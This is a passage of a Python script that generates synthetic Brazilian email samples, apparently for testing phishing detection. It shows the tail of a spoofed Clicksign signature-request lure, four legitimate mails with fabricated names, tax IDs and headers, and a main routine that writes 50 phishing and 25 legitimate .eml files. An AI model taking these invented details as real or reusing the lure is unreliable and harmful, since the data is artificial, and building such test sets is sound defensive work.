             GM1, "gmail", "ses", "Clicksign", "naoresponda@clicksign.com",
             "Imobiliária Horizonte enviou um documento para você assinar", dt(2025, 2, 14, 10, 31, 26),
             alt(plain_of("Você tem um documento para assinar", paras, ("Visualizar para assinar", link), foot), html, bnd(tag)),
             policy="quarantine", mailfrom=f"0100019{hx(tag+'mf', 9)}-{uuid(tag+'mfu')}-000000@mail.clicksign.com",
             reply_to="renata@imobiliariahorizonte.com.br"))

    # L22 Family photos from BOL webmail
    tag = "l-familia"
    plain = ("Lu,\n\nSeguem as fotos do aniversário da vó no domingo. Ficaram lindas! A da mesa do bolo ficou a minha preferida.\n\n"
             "Mandei também pro grupo da família, mas no WhatsApp a qualidade fica ruim, então to mandando por aqui pra você "
             "imprimir aquela que você falou.\n\nBeijos\nFê\n")
    html = ("<div style=\"font-family:Arial;font-size:14px;\">Lu,<br><br>Seguem as fotos do aniversário da vó no domingo. Ficaram lindas! "
            "A da mesa do bolo ficou a minha preferida.<br><br>Mandei também pro grupo da família, mas no WhatsApp a qualidade fica ruim, "
            "então to mandando por aqui pra você imprimir aquela que você falou.<br><br>Beijos<br>Fê</div>\n")
    body = Multi("mixed", bnd(tag + "m"), [alt(plain, html, bnd(tag)),
                                           attachment("image/jpeg", "IMG_20250803_161522.jpg", files.photo_jpeg(3)),
                                           attachment("image/jpeg", "IMG_20250803_162004.jpg", files.photo_jpeg(8))])
    add(Mail(f"b{N}-legit-familia-fotos-aniversario", "clean",
             "Personal mail from a BOL webmail user to her sister's Gmail with two JPEG photos of a family birthday.",
             GM2, "gmail", "direct", "Fernanda Lima", BOL1, "Fotos do aniversário da vó", dt(2025, 8, 5, 21, 40, 2), body,
             ip="200.147.36.15", helo="a2-smtp7.uol.com.br", policy="none", dkim=[("bol.com.br", "uol2020", "pass")],
             msgid=f"<{hx(tag+'m', 20)}.{num(tag+'m2', 100000, 999999)}@webmail.bol.com.br>",
             xmailer="BOL Mail", to="Luciana Ferraz <luciana.ferraz.adv@gmail.com>",
             pre=[f"Received: from webmail.bol.com.br (unknown [10.129.{num(tag+'a', 1, 250)}.{num(tag+'b', 1, 250)}])\n"
                  f"\tby a2-smtp7.uol.com.br (Postfix) with ESMTPA id {upper(tag+'q', 10)}\n\tfor <{GM2}>; {rfc(dt(2025, 8, 5, 21, 40, 2))}"]))


def legit_4():
    # L23 Accountant about malha fina pendência (looks like the Receita lures)
    tag = "l-contador"
    pdf = files.pdf(["EXTRATO DA DECLARACAO - IRPF 2025", "Contribuinte: EDUARDO SANTOS", "Situacao: Com pendencias (malha)",
                     "Pendencia: Rendimentos tributaveis recebidos de Pessoa Juridica informados a menor",
                     "Fonte pagadora: CONSTRUTORA VALE DO SOL LTDA", "Valor declarado: R$ 84.300,00   Valor informado pela fonte: R$ 91.870,00",
                     "", "Orientacao: retificar a declaracao incluindo o informe de rendimentos corrigido."],
                    title="Extrato IRPF 2025")
    plain = ("Oi Eduardo, tudo bem?\n\n"
             "Consultei o seu extrato da declaração no e-CAC com a procuração eletrônica e ela caiu em malha por diferença nos "
             "rendimentos da Vale do Sol: a empresa informou R$ 91.870,00 e nós declaramos R$ 84.300,00 (o informe que você me mandou "
             "em março não tinha o PLR de dezembro).\n\n"
             "Não é nada grave. O ideal é a gente retificar antes de receber qualquer intimação. Para isso preciso que você me mande:\n\n"
             "1) o informe de rendimentos corrigido da Vale do Sol (peça ao RH, eles emitem de novo);\n"
             "2) o comprovante do PLR, se tiver.\n\n"
             "Anexei o extrato que tirei do e-CAC para você ver. Se quiser conferir por conta própria, entre no e-CAC "
             "(cav.receita.fazenda.gov.br) com a sua conta gov.br, em Meu Imposto de Renda > Extrato da DIRPF.\n\n"
             "Lembrando que a Receita não manda e-mail com link ou anexo cobrando nada, tá? Qualquer coisa nesse sentido me "
             "encaminha antes de abrir.\n\n"
             "Abraço,\n\nSilvia Ramos\nRamos & Teixeira Contabilidade\nCRC 1SP 214.887/O-3\n(11) 2659-3021\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Calibri,Arial;font-size:11pt;\">" +
            "".join(f"<p>{x.replace(chr(10), '<br>')}</p>" for x in plain.strip().split("\n\n")) + "</div></body></html>\n")
    body = Multi("mixed", bnd(tag + "m", "ol16"), [alt(plain, html, bnd(tag, "ol16")),
                                           attachment("application/pdf", "Extrato_DIRPF2025_Eduardo.pdf", pdf)])
    m = Mail(f"b{N}-legit-contador-malha-fina", "clean",
             "Genuine accountant mail (small firm on Locaweb) telling a client his IRPF 2025 fell into malha fina, with the e-CAC extract PDF and instructions to rectify; no links, official site named in text.",
             HOT2, "outlook", "locaweb", "Silvia Ramos - Ramos & Teixeira Contabilidade", "silvia@ramoseteixeira.com.br",
             "Sua declaração IRPF 2025 - pendência em malha", dt(2025, 7, 22, 16, 8, 44), body, policy="none",
             dkim=[("ramoseteixeira.com.br", "default", "pass")], xmailer="Microsoft Outlook 16.0",
             to="Eduardo Santos <edu.santos1979@outlook.com>")
    m.client_ip = "189.112.75.204"
    add(m)

    # L24 Google Groups mailing list (python-brasil)
    tag = "l-pybr"
    plain = ("Olá pessoal,\n\n"
             "Está aberta a chamada de palestras da Python Sul 2025, que vai acontecer em Florianópolis nos dias 24 e 25 de "
             "outubro. As submissões vão até 31/07.\n\n"
             "Temos trilhas de web, dados, comunidade e iniciantes. Quem nunca palestrou é muito bem-vindo, temos mentoria "
             "para primeira palestra.\n\n"
             "Mais informações: https://pythonsul.org/2025/cfp\n\n"
             "Abraços,\nBruno Tavares\n\n"
             "-- \n"
             "--\n-----------------------------------\nVisite o wiki da comunidade: https://wiki.python.org.br/\n"
             "---\nVocê está recebendo esta mensagem porque se inscreveu no grupo \"Python Brasil\" dos Grupos do Google.\n"
             "Para cancelar a inscrição neste grupo e parar de receber e-mails dele, envie um e-mail para "
             "python-brasil+unsubscribe@googlegroups.com.\n"
             f"Para ver esta conversa, acesse https://groups.google.com/d/msgid/python-brasil/CA{alnum(tag+'x', 40)}%40mail.gmail.com.\n")
    msgid = f"<CA{alnum(tag+'x', 40)}@mail.gmail.com>"
    add(Mail(f"b{N}-legit-python-brasil-lista", "bulk",
             "Genuine Google Groups mailing-list post on python-brasil announcing a conference call for papers, with list headers and the group's footer.",
             GM1, "gmail", "gmail", "Bruno Tavares", "bruno.tavares.dev@gmail.com", "[python-brasil] Chamada de palestras Python Sul 2025",
             dt(2025, 7, 2, 9, 45, 0), text(plain, "plain", "quoted-printable"), policy="none",
             mailfrom=f"python-brasil+bncBD{upper(tag+'bnc', 40)}@googlegroups.com", helo="mail-yb1-f184.google.com",
             ip="209.85.219.184", dkim=[("googlegroups.com", "20230601", "pass"), ("gmail.com", "20230601", "pass")],
             msgid=msgid, to="python-brasil@googlegroups.com",
             extra=["Reply-To: python-brasil@googlegroups.com",
                    "Precedence: list", "Mailing-list: list python-brasil@googlegroups.com; contact python-brasil+owners@googlegroups.com",
                    "List-ID: <python-brasil.googlegroups.com>", "X-Spam-Checked-In-Group: bruno.tavares.dev@gmail.com",
                    "X-Google-Group-Id: 1061447129", "List-Post: <https://groups.google.com/group/python-brasil/post>, <mailto:python-brasil@googlegroups.com>",
                    "List-Help: <https://groups.google.com/support/>, <mailto:python-brasil+help@googlegroups.com>",
                    "List-Archive: <https://groups.google.com/group/python-brasil>",
                    "List-Unsubscribe: <mailto:googlegroups-manage+1061447129+unsubscribe@googlegroups.com>,\n <https://groups.google.com/group/python-brasil/subscribe>"]))

    # L25 Carpenter's quote with a genuine Pix request for the deposit
    tag = "l-marcenaria"
    pdf = files.pdf(["MARCENARIA SILVA & FILHOS - CNPJ 22.418.670/0001-09", "ORCAMENTO No 214/2025", "Cliente: Carlos Menezes",
                     "Armarios de cozinha em MDF branco TX 18mm com puxador cava - R$ 9.800,00",
                     "Bancada do banheiro com gaveteiro - R$ 2.650,00", "Total: R$ 12.450,00",
                     "Condicoes: 40% de sinal (R$ 4.980,00) e saldo na instalacao", "Prazo de entrega: 35 dias apos o sinal"],
                    title="Orcamento 214-2025")
    plain = ("Bom dia seu Carlos,\n\n"
             "Conforme conversamos ontem na medição, segue o orçamento atualizado com a bancada do banheiro incluída.\n\n"
             "Se estiver de acordo, o sinal de 40% (R$ 4.980,00) pode ser feito pelo Pix da empresa, chave CNPJ 22.418.670/0001-09 "
             "(Marcenaria Silva & Filhos). Assim que cair eu já encomendo o MDF e marco a produção.\n\n"
             "Se preferir, posso mandar boleto também.\n\n"
             "Abraço,\nJosé Silva\nMarcenaria Silva & Filhos\n(19) 99704-3318\n\n"
             "Em ter., 29 de jul. de 2025 às 18:02, Carlos Menezes <carlos.menezes@terra.com.br> escreveu:\n"
             "> Boa tarde José,\n> Obrigado pela visita. Pode incluir a bancada do banheiro no orçamento?\n> Abs\n> Carlos\n")
    paras = ["Bom dia seu Carlos,", "", "Conforme conversamos ontem na medição, segue o orçamento atualizado com a bancada do banheiro incluída.",
             "", "Se estiver de acordo, o sinal de 40% (R$ 4.980,00) pode ser feito pelo Pix da empresa, chave CNPJ 22.418.670/0001-09 "
             "(Marcenaria Silva &amp; Filhos). Assim que cair eu já encomendo o MDF e marco a produção.", "",
             "Se preferir, posso mandar boleto também.", "", "Abraço,", "José Silva", "Marcenaria Silva &amp; Filhos", "(19) 99704-3318"]
    html = (gmail_html(paras).rstrip("\n") + "<br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">Em ter., 29 de jul. "
            "de 2025 às 18:02, Carlos Menezes &lt;<a href=\"mailto:carlos.menezes@terra.com.br\">carlos.menezes@terra.com.br</a>&gt; "
            "escreveu:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);"
            "padding-left:1ex\">Boa tarde José,<br>Obrigado pela visita. Pode incluir a bancada do banheiro no orçamento?<br>Abs<br>Carlos"
            "</blockquote></div>\n")
    body = Multi("mixed", bnd(tag + "m", "gmail"), [alt(plain, html, bnd(tag, "gmail")),
                                                     attachment("application/pdf", "Orcamento_214-2025_Carlos.pdf", pdf)])
    add(Mail(f"b{N}-legit-marcenaria-orcamento-pix", "clean",
             "Genuine reply from a small carpentry business (Gmail) to a customer's earlier message, with the PDF quote and a Pix key (company CNPJ) for the agreed 40% deposit.",
             TERRA1, "terra", "gmail", "José Silva - Marcenaria Silva & Filhos", "marcenariasilvaefilhos@gmail.com",
             "Re: Orçamento armários cozinha", dt(2025, 7, 30, 8, 17, 22), body, policy="none",
             extra=[f"In-Reply-To: <{uuid(tag+'irt')}@terra.com.br>", f"References: <{uuid(tag+'irt')}@terra.com.br>"]))


# ================================================================= main


def check(raw: bytes, stem: str) -> None:
    for i, line in enumerate(raw.split(b"\n")):
        assert len(line) < 990, f"{stem}: line {i} too long ({len(line)})"
    msg = BytesParser(policy=policy.default).parsebytes(raw)
    for h in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[h] is not None, f"{stem}: missing {h}"
    head = raw.split(b"\n\n", 1)[0]
    try:
        head.decode("ascii")
    except UnicodeDecodeError as e:
        raise AssertionError(f"{stem}: non-ASCII header bytes") from e
    for part in msg.walk():
        assert not part.defects, f"{stem}: defects {part.defects} in {part.get_content_type()}"
        for k, v in part.items():
            assert not getattr(v, "defects", None), f"{stem}: header {k} defects {v.defects}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content, f"{stem}: empty text part"


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    attacks_1()
    attacks_2()
    attacks_3()
    attacks_4()
    attacks_5()
    attacks_6()
    legit_1()
    legit_2()
    legit_3()
    legit_4()
    stems = [m.stem for m in ALL]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [m for m in ALL if "-phish-" in m.stem]
    legit = [m for m in ALL if "-legit-" in m.stem]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    lines = []
    counts: dict[str, int] = {}
    for m in ALL:
        folder = REFILED.get(m.stem, m.folder)
        raw = render(m)
        check(raw, m.stem)
        path = MAIL / folder / f"{m.stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{m.stem}.eml | {folder} | {m.desc}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(" ".join(f"{k}={v}" for k, v in sorted(counts.items())) + f" total={sum(counts.values())}")


if __name__ == "__main__":
    main()
